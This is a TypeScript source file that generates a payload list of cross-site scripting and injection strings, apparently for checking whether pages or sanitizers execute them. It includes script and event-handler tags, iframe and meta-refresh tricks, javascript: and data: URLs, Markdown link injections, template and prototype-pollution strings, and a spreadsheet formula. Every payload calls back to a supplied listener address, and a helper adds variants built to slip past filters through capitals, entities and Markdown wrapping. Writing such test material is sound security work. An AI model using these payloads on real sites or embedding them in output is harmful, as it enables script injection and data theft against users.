// Texts that act wherever a page takes text for HTML, a link or a script. Each would tell a listener that it did.

/** `told` is the address that hears of it. */
export function hostileTexts(told: string): string[] {
  const act = `fetch('${told}')`
  const host = told.replace(/^https?:/, '')
  const tags = [
    `<script>${act}</script>`,
    `<img src=x onerror="${act}">`,
    `<img src="${told}">`,
    `<svg onload="${act}"></svg>`,
    `<svg><script>${act}</script></svg>`,
    `<svg><animate onbegin="${act}" attributeName=x dur=1s></animate></svg>`,
    `<iframe src="${told}"></iframe>`,
    `<iframe srcdoc="<script>${act}</script>"></iframe>`,
    `<object data="${told}"></object>`,
    `<embed src="${told}">`,
    `<link rel=stylesheet href="${told}">`,
    `<style>@import "${told}";</style>`,
    `<style>*{background:url(${told})}</style>`,
    `<base href="${told}">`,
    `<meta http-equiv=refresh content="0;url=${told}">`,
    `<form action="${told}"><input autofocus onfocus="${act}"></form>`,
    `<video poster="${told}"><source onerror="${act}"></video>`,
    `<audio src="${told}" onerror="${act}">`,
    `<details open ontoggle="${act}">`,
    `<marquee onstart="${act}">`,
    `<body onload="${act}">`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
    `<noscript><p title="</noscript><img src=x onerror='${act}'>">`,
    `<a href="javascript:${act}" autofocus onfocus="${act}">open</a>`,
    `<input type=image src="${told}" onerror="${act}">`,
  ]
  const breakouts = [
    '">',
    "'>",
    '</title>',
    '</textarea>',
    '</script>',
    '-->',
    ']]>',
    '`}>',
    '</code></pre>',
    '</td></tr></table>',
  ]
  const markdown = [
    `![picture](${told})`,
    `![picture](javascript:${act})`,
    `[link](javascript:${act})`,
    `[link](data:text/html,<script>${act}</script>)`,
    `[link](vbscript:x "title" onmouseover="${act}")`,
    `<${told}>`,
    `[a]: ${told} "x"\n![a]`,
    `\`\`\`html\n<img src="${told}">\n\`\`\``,
    `![x](${host})`,
    `[x](&#106;avascript:${act})`,
  ]
  const others = [
    `{{constructor.constructor("${act}")()}}`,
    `\${${act}}`,
    `javascript:${act}`,
    `data:text/html,<script>${act}</script>`,
    `__proto__[x]=${act}`,
    `\u202e${tags[0]}\u202c`,
    `\u0000${tags[1]}`.replaceAll('\0', ''),
    `=HYPERLINK("${told}")`,
    `@import url(${told})`,
    `expression(${act})`,
  ]
  return [
    ...tags,
    ...breakouts.flatMap((end) => tags.map((tag) => end + tag)),
    ...disguised(tags),
    ...markdown,
    ...others,
  ]
}

/** The same where a filter looks for something else: in capitals, without blanks, cut off, doubled, written as entities, inside Markdown. */
const disguised = (tags: string[]): string[] => [
  ...tags.map((tag) =>
    tag.replaceAll(/<(\/?)([a-z]+)/g, (_, end: string, name: string) => `<${end}${name.toUpperCase()}`),
  ),
  ...tags.map((tag) => tag.replace(/^(<[a-z]+) /, '$1/')),
  ...tags.map((tag) => tag.replace(/>$/, '')),
  ...tags.map((tag) => `<${tag}`),
  ...tags.map((tag) => tag.replaceAll('<', '&lt;').replaceAll('>', '&gt;')),
  ...tags.map((tag) => `**${tag}**`),
  ...tags.map((tag) => `> - ${tag}`),
  ...tags.map((tag) => `| a |\n|---|\n| ${tag} |`),
  ...tags.map((tag) => `[${tag}](x "${tag}")`),
]
